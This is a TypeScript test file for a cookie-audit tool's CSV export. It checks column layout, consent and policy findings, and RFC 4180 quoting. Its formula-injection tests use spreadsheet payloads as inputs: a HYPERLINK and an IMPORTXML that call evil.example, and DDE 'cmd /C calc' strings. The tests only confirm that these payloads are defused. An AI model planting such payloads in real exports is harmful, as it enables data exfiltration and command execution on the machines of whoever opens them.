import fc from 'fast-check';
import { beforeAll, describe, expect, test } from 'vitest';
import type { CookieObservation } from '../../../lib/model/types';
import { cookiesCsv } from '../../../lib/report/csv';
import type { AuditExport } from '../../../lib/report/export';
import { parseCsv } from './rfc4180';
import { syntheticExport } from './session';
import { haveSeeds, seed } from '../policy/shared-paths';

let base: AuditExport;
beforeAll(async () => {
  base = await syntheticExport({ consent: { time: 2_000, state: 'accepted', signal: 'click' } });
});

/** The export with its first cookie replaced; the findings stay those of the real session. */
function withCookie(over: Partial<CookieObservation>): AuditExport {
  const [first, ...rest] = base.observations.cookies;
  if (!first) throw new Error('the synthetic session has no cookie');
  return { ...base, observations: { ...base.observations, cookies: [{ ...first, ...over }, ...rest] } };
}

function rows(report: AuditExport): Record<string, string>[] {
  const [header, ...body] = parseCsv(cookiesCsv(report));
  if (!header) throw new Error('no header');
  return body.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i] ?? '<missing>'])));
}

describe('cookiesCsv layout', () => {
  test('a header, then exactly one CRLF-terminated record per observed cookie, all of equal width', () => {
    const records = parseCsv(cookiesCsv(base));
    expect(records[0]).toEqual([
      'name', 'domain', 'path', 'firstParty', 'setBy', 'session', 'lifetimeSeconds', 'requestedLifetimeSeconds', 'secure', 'httpOnly',
      'sameSite', 'partitioned', 'timeMs', 'phase', 'vendor', 'category', 'tracker', 'classificationSource', 'initiator', 'findings', 'writes', 'history',
    ]);
    expect(records).toHaveLength(base.observations.cookies.length + 1);
    expect(new Set(records.map((r) => r.length))).toEqual(new Set([22]));
  });

  test('an export without cookies is the header alone', () => {
    expect(cookiesCsv({ ...base, observations: { ...base.observations, cookies: [] } }).split('\r\n')).toHaveLength(2);
  });

  test.each([
    // cookie, column, expected cell
    ['_ym_uid', 'setBy', 'script'],
    ['_ym_uid', 'initiator', 'https://mc.yandex.ru/metrika/tag.js'],
    ['_ym_uid', 'vendor', 'Yandex Metrika'],
    ['_ym_uid', 'category', 'analytics'],
    ['_ym_uid', 'lifetimeSeconds', '31536000'],
    ['_ga', 'requestedLifetimeSeconds', '63072000'],
    ['_ga', 'lifetimeSeconds', '34560000'],
    ['PHPSESSID', 'session', 'true'],
    ['PHPSESSID', 'lifetimeSeconds', ''],
    ['PHPSESSID', 'httpOnly', 'true'],
    ['PHPSESSID', 'initiator', ''],
    ['yandexuid', 'firstParty', 'false'],
    ['yandexuid', 'sameSite', 'no_restriction'],
    ['_ym_d', 'phase', 'after-accept'],
    ['_ym_uid', 'phase', 'pre-consent'],
  ])('%s: %s is %j', (name, column, expected) => {
    const row = rows(base).find((r) => r.name === name);
    expect(row?.[column]).toBe(expected);
  });
});

describe('findings column', () => {
  test.each([
    // Without a policy only the consent rules (and no-policy, which is not about a cookie) fire.
    ['_ym_uid', 'pre-consent-cookie'],
    ['_ga', 'pre-consent-cookie'],
    ['yandexuid', 'pre-consent-cookie'],
    ['PHPSESSID', ''],
    ['_ym_d', ''],
  ])('without a policy, %s lists %j', (name, codes) => {
    expect(rows(base).find((r) => r.name === name)?.findings).toBe(codes);
  });

  test.runIf(haveSeeds).each([
    // Seed 004 declares no cookie at all: every cookie is undeclared, and the trackers also fired before consent.
    ['004', '_ym_uid', ['pre-consent-cookie', 'undeclared-cookie']],
    ['004', 'PHPSESSID', ['undeclared-cookie']],
    ['004', '_ym_d', ['undeclared-cookie']],
    // Seed 003 declares _ga (2 years) in its table: only the consent finding remains for it.
    ['003', '_ga', ['pre-consent-cookie']],
    ['003', '_ym_uid', ['pre-consent-cookie', 'undeclared-cookie']],
  ])('with seed %s, %s lists %j', async (seedId, name, codes) => {
    const declared = await syntheticExport({ policyText: seed(seedId), consent: { time: 2_000, state: 'accepted', signal: 'click' } });
    const cell = rows(declared).find((r) => r.name === name)?.findings ?? '<no row>';
    expect(cell.split(' ').sort()).toEqual([...codes].sort());
    // Every code in the column is a real finding about that cookie.
    const expected = declared.findings.filter((f) => f.subject.kind === 'cookie' && f.subject.name === name).map((f) => f.code);
    expect(cell.split(' ').sort()).toEqual(expected.sort());
  });

  test.runIf(haveSeeds)('declared-not-observed findings name cookies but add no rows', async () => {
    const declared = await syntheticExport({ policyText: seed('003') });
    const ghosts = declared.findings.filter((f) => f.code === 'declared-not-observed' && f.subject.kind === 'cookie').map((f) => f.subject.name);
    expect(ghosts).toContain('_gid');
    const names = rows(declared).map((r) => r.name ?? '<missing>');
    expect(names).toHaveLength(declared.observations.cookies.length);
    expect(names.filter((n) => ghosts.includes(n))).toEqual([]);
  });
});

describe('RFC 4180 quoting', () => {
  test.each([
    ['plain', 'sid', 'sid'],
    ['comma', 'a,b', '"a,b"'],
    ['double quote', 'say "hi"', '"say ""hi"""'],
    ['line feed', 'two\nlines', '"two\nlines"'],
    ['CRLF', 'two\r\nlines', '"two\r\nlines"'],
    ['Cyrillic', 'корзина', 'корзина'],
    ['spaces kept', ' padded ', ' padded '],
  ])('%s: %j is written as %j', (_label, name, field) => {
    const line = cookiesCsv(withCookie({ name })).split('\r\n').slice(1).join('\r\n');
    expect(line.startsWith(`${field},`)).toBe(true);
    expect(rows(withCookie({ name }))[0]?.name).toBe(name);
  });
});

describe('formula injection is defused', () => {
  test.each([
    ['=HYPERLINK("https://evil.example/?"&A1,"click")'],
    ['+1+1'],
    ['-2+3+cmd|\' /C calc\'!A0'],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0'],
    ['\t=1+1'],
    ['\r=1+1'],
  ])('cookie name %j gets a leading apostrophe and survives the round trip', (name) => {
    expect(rows(withCookie({ name }))[0]?.name).toBe(`'${name}`);
  });

  test.each([
    ['initiator', 'initiator', '=IMPORTXML("https://evil.example","//a")'],
    ['path', 'path', '@/x'],
    ['domain', 'domain', '-evil.example'],
  ] as const)('%s text is defused too', (field, column, value) => {
    expect(rows(withCookie({ [field]: value }))[0]?.[column]).toBe(`'${value}`);
  });

  test.each([
    ['lifetimeSeconds', -5, '-5'],
    ['time', 0, '0'],
    ['requestedLifetimeSeconds', 94_608_000, '94608000'],
  ] as const)('number %s = %d stays a number', (field, value, cell) => {
    expect(rows(withCookie({ [field]: value }))[0]?.[field === 'time' ? 'timeMs' : field]).toBe(cell);
  });

  test('a value that merely contains a formula character is left alone', () => {
    expect(rows(withCookie({ name: 'a=b+c' }))[0]?.name).toBe('a=b+c');
  });
});

describe('fuzz', () => {
  test('any cookie name and initiator round-trip, defused exactly when they start with a formula character', () => {
    const text = fc.string({ unit: fc.constantFrom('a', 'Я', ',', '"', '\r', '\n', '=', '+', '-', '@', '\t', ' ', "'"), maxLength: 12 });
    fc.assert(
      fc.property(text, fc.option(text, { nil: null }), (name, initiator) => {
        const row = rows(withCookie({ name, initiator }))[0];
        const defused = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
        expect(row?.name).toBe(defused(name));
        expect(row?.initiator).toBe(initiator === null ? '' : defused(initiator));
      }),
      { numRuns: 400 },
    );
  });
});
